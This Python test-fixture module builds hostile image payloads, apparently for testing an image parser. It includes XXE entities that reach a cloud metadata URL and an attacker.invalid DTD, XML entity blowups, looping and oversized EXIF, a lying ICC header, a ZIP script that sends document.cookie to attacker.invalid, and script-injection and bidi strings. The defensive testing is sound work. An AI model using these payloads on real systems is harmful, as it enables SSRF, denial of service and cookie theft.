"""Hostile payloads that go into or after images: XMP, EXIF and ICC structures, text, a ZIP."""

from __future__ import annotations

import io
import struct

from PIL import ImageCms

from tests.hostile.blocks import ASCII, LONG, RATIONAL, SHORT, UNDEFINED, ifd, u16, u32
from tests.support import photos

# ---------------------------------------------------------------- XMP payloads


def xmp(body: str, *, prolog: str = "") -> bytes:
    """An XMP packet (x:xmpmeta, one rdf:Description) around ``body``, after ``prolog``."""
    return (
        f"{prolog}"
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/">'
        f"{body}</rdf:Description></rdf:RDF></x:xmpmeta>"
    ).encode()


XMP_SSRF = photos.xmp_with_external_entity("http://169.254.169.254/latest/meta-data/")
XMP_QUADRATIC = xmp(
    "<dc:rights>" + "&a;" * 4000 + "</dc:rights>",
    prolog=f'<?xml version="1.0"?><!DOCTYPE x:xmpmeta [<!ENTITY a "{"A" * 8000}">]>',
)
XMP_PARAMETER_ENTITY = xmp(
    "<dc:rights>x</dc:rights>",
    prolog='<?xml version="1.0"?><!DOCTYPE x:xmpmeta [<!ENTITY % remote SYSTEM '
    '"http://attacker.invalid/evil.dtd"> %remote;]>',
)
XMP_DEEP = xmp("<dc:rights>" + "<a>" * 9000 + "deep" + "</a>" * 9000 + "</dc:rights>")
XMP_NOT_XML = b"<x:xmpmeta><rdf:RDF><unclosed attr='1>\x01\x02 &undefined; </x:xmpmeta"


def xmp_many_items(keywords: int, description_words: int) -> bytes:
    """XMP with this many keywords and description words, and 2000 properties."""
    return xmp(
        "<dc:subject><rdf:Bag>"
        + "".join(f"<rdf:li>keyword {i}</rdf:li>" for i in range(keywords))
        + "</rdf:Bag></dc:subject>"
        + f'<dc:description><rdf:Alt><rdf:li xml:lang="x-default">{"long " * description_words}'
        "</rdf:li></rdf:Alt></dc:description>"
        + "".join(
            f'<photoshop:P{i} xmlns:photoshop="urn:p{i}">v{i}</photoshop:P{i}>' for i in range(2000)
        )
    )


XMP_MANY_ITEMS = xmp_many_items(15000, 40000)  # about 900 KB
XMP_OVER_1MB = xmp_many_items(20000, 100000)  # about 1.4 MB


# ---------------------------------------------------------------- EXIF, ICC and a ZIP archive


def exif_ifd_loop() -> bytes:
    """EXIF whose IFD0 pointers and IFD1's next pointer all lead back to IFD0."""
    # IFD0 at 8: Make -> "Canon"; ExifOffset and GPSInfo point back at IFD0; next -> IFD1,
    # whose next points back at IFD0 (a two-IFD loop).
    make_at, ifd1_at = 8 + 2 + 12 * 4 + 4, 8 + 2 + 12 * 4 + 4 + 6
    ifd0 = ifd(
        [
            (0x010F, ASCII, 6, u32(make_at)),
            (0x0112, SHORT, 1, u16(1)),
            (0x8769, LONG, 1, u32(8)),
            (0x8825, LONG, 1, u32(8)),
        ],
        ifd1_at,
    )
    ifd1 = ifd([(0x0103, SHORT, 1, u16(6))], 8)
    return b"II*\0" + u32(8) + ifd0 + b"Canon\0" + ifd1


def exif_huge_counts() -> bytes:
    """EXIF with counts of 2^29 to 2^32, unknown types and a 0/0 resolution."""
    entries = [
        (0x010F, ASCII, 0xFFFFFFFF, u32(0)),  # Make: 4 G characters, from the start
        (0x011A, RATIONAL, 0x20000000, u32(8)),  # XResolution: 512 M rationals
        (0x011B, RATIONAL, 1, u32(0)),  # YResolution: 0/0 (the zero denominator)
        (0x0128, SHORT, 1, u16(2)),  # ResolutionUnit, so Pillow computes a DPI from them
        (0x0111, LONG, 0x3FFFFFFF, u32(8)),  # StripOffsets: 1 G longs
        (0x010E, ASCII, 0x7FFFFFFF, u32(0xFFFFFFF0)),  # ImageDescription: past the end
        (0x8298, UNDEFINED, 0xFFFFFFFF, u32(8)),  # Copyright as UNDEFINED, 4 GB
        (0x013B, 99, 0xFFFFFFFF, u32(8)),  # Artist with an unknown field type
        (0x0112, SHORT, 0xFFFF, u32(8)),  # Orientation with 65535 values
        (0x8769, LONG, 1, u32(0xFFFFFFFF)),  # ExifOffset nowhere
    ]
    return b"II*\0" + u32(8) + ifd(entries, 0xFFFFFFF0) + b"\0" * 16


def exif_oversized() -> bytes:
    """A full 64 KB EXIF segment: 5000 entries in IFD0, a 2000-char description at the end."""
    count = 5000
    text_at = 8 + 2 + 12 * (count + 1) + 4
    description = ("Oversized EXIF " * 200)[:2000].encode() + b"\0"
    entries = [(0x010E, ASCII, len(description), u32(text_at))]
    entries += [(0xC000 + i, SHORT, 1, u16(i)) for i in range(count)]
    return b"II*\0" + u32(8) + ifd(entries, 0) + description


def lab_icc() -> bytes:
    """littleCMS's Lab profile, its creation date and profile ID zeroed (so it is the same
    bytes every time)."""
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes())
    profile[24:36] = bytes(12)
    profile[84:100] = bytes(16)
    return bytes(profile)


def icc_lying_header() -> bytes:
    """An ICC header claiming 4 GB and 2^31 tags, then nothing."""
    header = bytearray(photos.adobe_rgb_like_icc()[:128])
    header[0:4] = struct.pack(">I", 0xFFFFFFFF)
    return bytes(header) + struct.pack(">I", 0x7FFFFFFF) + b"desc" + struct.pack(">II", 0, 0xFFFF)


def zip_archive() -> bytes:
    """A ZIP archive holding a script."""
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        info = zipfile.ZipInfo("payload/evil.js", date_time=(2024, 1, 1, 0, 0, 0))
        archive.writestr(info, "fetch('https://attacker.invalid/?c=' + document.cookie)")
    return buf.getvalue()


# ---------------------------------------------------------------- text in fields and names


CONTROLS = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\t\n\r") + "\x7f"
BIDI = "\u202eevil\u202c \u200b\u200d\ufeff"
ZERO_WIDTH = " \u200b\u200d\ufeff"
NASTY = f"Bowl{CONTROLS}{BIDI} 🏺 e\u0301 ﷽ <script>alert(1)</script> \x00end"

LONG_NAME = ("Hoa Hakananaiʻa — moai from Orongo, Rapa Nui 🗿 " * 120)[:5000] + ".jpg"
